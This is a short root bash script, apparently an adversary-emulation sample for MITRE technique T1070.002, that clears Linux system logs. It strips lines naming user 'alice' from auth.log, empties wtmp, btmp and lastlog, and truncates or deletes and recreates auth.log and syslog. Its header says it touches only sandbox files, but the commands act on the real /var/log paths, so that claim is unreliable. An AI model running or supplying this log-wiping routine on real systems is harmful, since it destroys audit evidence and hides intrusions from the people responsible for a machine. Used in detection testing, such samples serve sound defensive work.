#!/bin/bash
# technique: T1070.002 Indicator Removal: Clear Linux or Mac System Logs
# tactic: defense-evasion
# user: root
# does: takes its traces out of the logs and empties them
# harmless: only files of the sandbox

sed -i '/alice/d' /var/log/auth.log
: >/var/log/wtmp
: >/var/log/btmp
: >/var/log/lastlog
truncate -s 0 /var/log/auth.log
rm -f /var/log/syslog
touch /var/log/syslog
